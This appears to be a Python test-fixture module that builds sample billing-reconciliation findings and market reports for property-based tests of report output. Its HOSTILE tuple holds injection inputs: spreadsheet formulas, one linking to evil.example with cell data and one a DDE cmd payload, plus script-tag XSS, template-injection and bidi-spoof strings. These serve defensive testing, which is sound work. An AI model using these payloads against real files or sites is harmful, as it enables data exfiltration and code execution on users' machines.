"""Reports of a made-up market, said in a few words; tests of `hub.reports` start from these."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

from hypothesis import strategies as st

from reconciliation.findings import DIRECTIONS, EXPOSURE_CLASSES, Finding, FindingLine, fingerprint
from reconciliation.report import MarketReport, RuleInReport

AS_OF = datetime(2026, 11, 2, 12, tzinfo=UTC)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\tTAB",
    "\rCR",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} {% raw %}",
    "https://evil.example/",
    "a;=1+1",
    "bell\x07 and \ud800 and \u202egnp.exe",
    "0123456789012345",
    "",
)
"""What a source system may hold where a name or an id is expected."""


def line(month: str = "2026-10", exposure: int = 2000, charge: str = "access", billed: int = 6999) -> FindingLine:
    """A line that bills less than expected by its exposure."""
    return FindingLine(date.fromisoformat(f"{month}-01"), charge, billed + exposure, billed, exposure)


def finding(
    subject: str = "RB-1",
    rule_id: str = "RL-C03",
    direction: str = "under_billed",
    exposure_class: str = "recoverable",
    lines: Sequence[FindingLine] = (line(),),
    **changes: Any,
) -> Finding:
    """A finding whose money is that of its lines."""
    made = Finding(
        fingerprint=fingerprint(_encodable(rule_id), "riverbend", _encodable(subject), direction, exposure_class),
        rule_id=rule_id,
        market="riverbend",
        subject_kind="service",
        subject=subject,
        direction=direction,  # type: ignore[arg-type]
        exposure_class=exposure_class,  # type: ignore[arg-type]
        exposure_minor=sum(part.exposure_minor for part in lines),
        run_rate_minor=lines[-1].exposure_minor if lines else 0,
        currency="USD",
        evidence_from=date(2026, 10, 1),
        evidence_to=date(2026, 11, 1),
        lines=tuple(lines),
        evidence=("fsm/completion/FC-1", "billing/charge/CH-1"),
    )
    return replace(made, **changes)


def _encodable(text: str) -> str:
    return text.encode("utf-8", "backslashreplace").decode("utf-8")


def rule(rule_id: str = "RL-C03", outcome: str = "findings") -> RuleInReport:
    """A rule with a title that names it."""
    return RuleInReport(rule_id, f"Title of {rule_id}", "finance", "change_subscription", outcome)


def market_report(*findings: Finding, outcomes: dict[str, str] | None = None, **changes: Any) -> MarketReport:
    """A report of October 2026; a rule with findings says so, and ``outcomes`` adds the others."""
    found = {item.rule_id: "findings" for item in findings}
    made = MarketReport(
        operator="Lumen Valley Fiber",
        market_id="riverbend",
        market_name="Riverbend",
        currency="USD",
        zone="America/Chicago",
        as_of=AS_OF,
        period_from=date(2026, 8, 1),
        period_to=date(2026, 11, 1),
        findings=tuple(findings),
        rules={name: rule(name, outcome) for name, outcome in (found | (outcomes or {})).items()},
        not_judged=(),
        compared=1200,
        billed_minor=5_000_000,
        versions={"snapshot": "riverbend-1", "rules": "ab12"},
        first_seen={},
    )
    return replace(made, **changes)


def _distinct(findings: list[Finding]) -> MarketReport:
    return market_report(*{item.fingerprint: item for item in findings}.values())


_lines = st.builds(
    line,
    month=st.sampled_from(["2026-06", "2026-08", "2026-09", "2026-10", "2026-12"]),
    exposure=st.integers(0, 10**9),
    billed=st.integers(-(10**6), 10**6),
)
_carrying = st.builds(
    finding,
    subject=st.sampled_from([f"RB-{number}" for number in range(6)]),
    rule_id=st.sampled_from(["RL-A01", "RL-B04", "RL-C03"]),
    direction=st.sampled_from(DIRECTIONS),
    exposure_class=st.sampled_from(EXPOSURE_CLASSES),
    lines=st.lists(_lines, max_size=3),
    evidence_from=st.dates(date(2026, 1, 1), date(2026, 12, 31)),
)
_explained = st.builds(
    finding,
    subject=st.sampled_from([f"RX-{number}" for number in range(3)]),
    direction=st.sampled_from(DIRECTIONS),
    lines=st.just((line(exposure=0),)),
    run_rate_minor=st.just(0),
    explained_by=st.just("0123456789abcdef"),
)

reports = st.lists(st.one_of(_carrying, _explained), max_size=12).map(_distinct)
"""Reports of up to a dozen findings of any kind, some of them explained by others."""
